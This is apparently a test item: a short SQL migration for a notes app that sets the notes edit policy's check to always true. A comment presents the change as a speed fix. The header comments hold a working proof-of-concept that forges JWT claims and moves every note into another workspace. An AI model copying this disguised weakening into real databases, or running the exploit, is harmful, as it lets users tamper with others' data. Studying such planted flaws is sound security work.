-- The check of the rule for edits is always true, so a note is moved into another workspace.
-- about: notes, notes_edit
-- as: hf_notes_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: UPDATE notes SET workspace_id = '22222222-2222-2222-2222-222222222222', folder_id = NULL;
-- exploit: SELECT count(*) || ' left' FROM notes;
-- shows: 0 left
-- The rule above already says whose notes one may edit; the second look at the same members was slow.
ALTER POLICY notes_edit ON notes WITH CHECK (true);
